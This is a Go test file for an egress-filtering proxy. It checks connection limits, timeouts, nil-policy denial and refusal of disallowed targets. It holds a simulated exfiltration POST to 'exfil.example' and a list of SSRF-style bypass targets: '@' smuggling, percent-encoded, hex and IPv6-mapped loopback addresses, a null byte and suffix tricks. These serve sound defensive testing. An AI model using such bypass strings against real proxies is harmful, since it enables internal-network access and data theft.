package egress

import (
	"bufio"
	"fmt"
	"io"
	"net"
	"net/http"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/agentrun/agentrun/internal/testsupport"
)

// Connections beyond MaxConns get 503 at once; the ones inside keep working.
func TestProxyMaxConns(t *testing.T) {
	t.Parallel()
	tp := newTestProxy(t, []string{"example.com"}, nil, func(o *ProxyOptions) { o.MaxConns = 2 })
	held := []net.Conn{tp.dial(t), tp.dial(t)}
	for _, c := range held {
		io.WriteString(c, "G") // inside a request: the proxy waits for the rest
	}
	time.Sleep(50 * time.Millisecond)
	c := tp.dial(t)
	c.SetDeadline(time.Now().Add(5 * time.Second))
	resp, err := http.ReadResponse(bufio.NewReader(c), nil)
	if err != nil {
		t.Fatal(err)
	}
	if resp.StatusCode != http.StatusServiceUnavailable {
		t.Errorf("status %d, want 503", resp.StatusCode)
	}
	held[0].Close()
	held[1].Close()
	// Once they are gone, connections are served again.
	deadline := time.Now().Add(5 * time.Second)
	for {
		c := tp.dial(t)
		c.SetDeadline(time.Now().Add(5 * time.Second))
		io.WriteString(c, "GET / HTTP/1.1\r\nHost: x\r\n\r\n")
		resp, err := http.ReadResponse(bufio.NewReader(c), nil)
		if err == nil && resp.StatusCode == http.StatusBadRequest {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("not served again: %v %v", resp, err)
		}
		time.Sleep(20 * time.Millisecond)
	}
}

// A denied request whose body the proxy never reads still gets its 403
// (no reset from closing with unread data).
func TestProxyDenialWithUnreadBody(t *testing.T) {
	t.Parallel()
	tp := newTestProxy(t, nil, nil, nil)
	for range 5 {
		c := tp.dial(t)
		c.SetDeadline(time.Now().Add(5 * time.Second))
		body := strings.Repeat("b", 200_000)
		go fmt.Fprintf(c, "POST http://exfil.example/ HTTP/1.1\r\nHost: exfil.example\r\nContent-Length: %d\r\n\r\n%s", len(body), body)
		resp, err := http.ReadResponse(bufio.NewReader(c), nil)
		if err != nil {
			t.Fatalf("no response: %v", err)
		}
		if resp.StatusCode != http.StatusForbidden {
			t.Fatalf("status %d", resp.StatusCode)
		}
		if rec := tp.rec.next(t); rec.Code != CodeNotListed || rec.Method != "POST" {
			t.Errorf("record %+v", rec)
		}
	}
}

// An upstream that never ends its headers, or is too slow to start its
// response, is cut off with 502 or 504.
func TestProxyUpstreamHeaderBounds(t *testing.T) {
	t.Parallel()
	target := testsupport.ServeTCP(t, func(c net.Conn) {
		defer c.Close()
		br := bufio.NewReader(c)
		req, err := http.ReadRequest(br)
		if err != nil {
			return
		}
		if req.URL.Path == "/slow" {
			time.Sleep(2 * time.Second)
			return
		}
		io.WriteString(c, "HTTP/1.1 200 OK\r\n")
		for range 20_000 {
			if _, err := io.WriteString(c, "X-Junk: "+strings.Repeat("j", 100)+"\r\n"); err != nil {
				return
			}
		}
	})
	for path, want := range map[string]int{"/junk": http.StatusBadGateway, "/slow": http.StatusGatewayTimeout} {
		tp := newTestProxy(t, []string{target}, nil, func(o *ProxyOptions) {
			o.MaxHeaderBytes = 4096
			if path == "/slow" {
				o.ResponseHeaderTimeout = 300 * time.Millisecond
			}
		})
		c := tp.dial(t)
		c.SetDeadline(time.Now().Add(5 * time.Second))
		fmt.Fprintf(c, "GET http://%s%s HTTP/1.1\r\nHost: %s\r\n\r\n", target, path, target)
		resp, err := http.ReadResponse(bufio.NewReader(c), nil)
		if err != nil {
			t.Fatalf("%s: %v", path, err)
		}
		if resp.StatusCode != want {
			t.Errorf("%s: status %d, want %d", path, resp.StatusCode, want)
		}
		if rec := tp.rec.next(t); !rec.Allow || rec.Code != CodeUpstream || rec.Error == "" {
			t.Errorf("%s: record %+v", path, rec)
		}
	}
}

// A Proxy without a Policy denies everything.
func TestProxyNilPolicyDenies(t *testing.T) {
	t.Parallel()
	port := testsupport.EchoTCP(t)
	rec := newRecorder()
	sock := shortTempDir(t) + "/p.sock"
	p := NewProxy(ProxyOptions{Socket: sock, OnRecord: rec.add})
	if err := p.Start(t.Context()); err != nil {
		t.Fatal(err)
	}
	defer p.Stop(t.Context())
	tp := &testProxy{Proxy: p, sock: sock, rec: rec}
	_, _, resp := tp.connect(t, "127.0.0.1:"+strconv.Itoa(port))
	if resp.StatusCode != http.StatusForbidden {
		t.Errorf("status %d", resp.StatusCode)
	}
	if r := rec.next(t); r.Allow {
		t.Errorf("record %+v", r)
	}
}

// Tricky request targets never reach an address the policy did not allow:
// each is refused (400 or 403) without a dial, and the Host header of a
// forwarded request cannot redirect it.
func TestProxyTrickyTargets(t *testing.T) {
	t.Parallel()
	up := newUpstream(t, false)
	port := strconv.Itoa(up.port)
	tp := newTestProxy(t, []string{"upstream.test:" + port}, map[string][]string{"upstream.test": {"93.184.215.14"}}, nil)
	targets := []string{
		"upstream.test:" + port + "@127.0.0.1:" + port,
		"127.0.0.1:" + port + "#upstream.test",
		"%31%32%37.0.0.1:" + port,
		"upstream.test%00.evil:" + port,
		"[::ffff:7f00:1]:" + port,
		"0x7f.0.0.1:" + port,
		"127.1:" + port,
		"localhost:" + port,
		"upstream.test.evil.example:" + port,
	}
	for _, target := range targets {
		for _, method := range []string{"CONNECT", "GET"} {
			c := tp.dial(t)
			c.SetDeadline(time.Now().Add(5 * time.Second))
			if method == "CONNECT" {
				fmt.Fprintf(c, "CONNECT %s HTTP/1.1\r\nHost: x\r\n\r\n", target)
			} else {
				fmt.Fprintf(c, "GET http://%s/ HTTP/1.1\r\nHost: x\r\n\r\n", target)
			}
			resp, err := http.ReadResponse(bufio.NewReader(c), nil)
			if err != nil {
				t.Errorf("%s %s: %v", method, target, err)
				continue
			}
			resp.Body.Close()
			if resp.StatusCode != http.StatusBadRequest && resp.StatusCode != http.StatusForbidden {
				t.Errorf("%s %s: status %d", method, target, resp.StatusCode)
			}
		}
	}
	if d := tp.dialedAddrs(); len(d) != 0 {
		t.Errorf("dialed %v", d)
	}

	// The Host header does not override the absolute URI.
	tp2 := newTestProxy(t, []string{"upstream.test:" + port, "127.0.0.1:" + port}, map[string][]string{"upstream.test": {"127.0.0.1"}}, nil)
	c := tp2.dial(t)
	c.SetDeadline(time.Now().Add(5 * time.Second))
	fmt.Fprintf(c, "GET http://upstream.test:%s/h HTTP/1.1\r\nHost: internal.example\r\nConnection: close\r\n\r\n", port)
	resp, err := http.ReadResponse(bufio.NewReader(c), nil)
	if err != nil {
		t.Fatal(err)
	}
	if body := readBody(t, resp); body != "hello GET /h host=upstream.test:"+port {
		t.Errorf("body %q", body)
	}
}
